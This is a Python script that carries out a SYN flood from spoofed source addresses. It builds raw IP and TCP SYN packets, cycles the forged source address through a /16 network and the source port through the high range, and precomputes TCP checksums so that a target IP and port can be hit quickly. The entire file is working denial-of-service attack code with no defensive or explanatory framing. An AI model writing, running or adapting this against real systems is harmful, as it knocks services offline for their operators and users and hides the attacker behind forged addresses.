#!/usr/bin/env python3
"""A SYN flood from spoofed sources: COUNT TCP SYNs to DST-IP:DST-PORT, the
source address cycling through the 65,536 addresses of SRC-NET (a /16, e.g.
10.201.0.0) and the source port through 1024-65535, as a flood whose
answers never come back sends them.
    syn_flood.py SRC-NET DST-IP DST-PORT COUNT  ->  prints the number sent
Raw socket with IP_HDRINCL (root); the kernel fills the IP checksum and id."""
import socket
import struct
import sys


def fold(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


net, dst, dport, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
net_be = struct.unpack("!I", socket.inet_aton(net))[0] & 0xFFFF0000
dst_bytes = socket.inet_aton(dst)
# The TCP checksum of every SYN is this sum plus its source address and port
# (RFC 1071's sum is order-free), so each packet costs a few additions.
template = struct.pack("!HHIIBBHHH", 0, dport, 0, 0, 5 << 4, 0x02, 65535, 0, 0)
pseudo = b"\0\0\0\0" + dst_bytes + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(template))
data = pseudo + template
base = sum(struct.unpack(f"!{len(data) // 2}H", data))
ip_header = struct.Struct("!BBHHHBBH4s4s")
tcp_header = struct.Struct("!HHIIBBHHH")

sent = 0
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    for i in range(count):
        src = net_be | (i & 0xFFFF)
        sport = 1024 + (i * 7919) % 64512
        check = ~fold(base + (src >> 16) + (src & 0xFFFF) + sport) & 0xFFFF
        packet = ip_header.pack(0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, struct.pack("!I", src), dst_bytes) + \
            tcp_header.pack(sport, dport, 0, 0, 5 << 4, 0x02, 65535, check, 0)
        try:
            sent += s.sendto(packet, (dst, 0)) > 0
        except OSError:  # a full transmit queue: counted as not sent
            pass
print(sent)
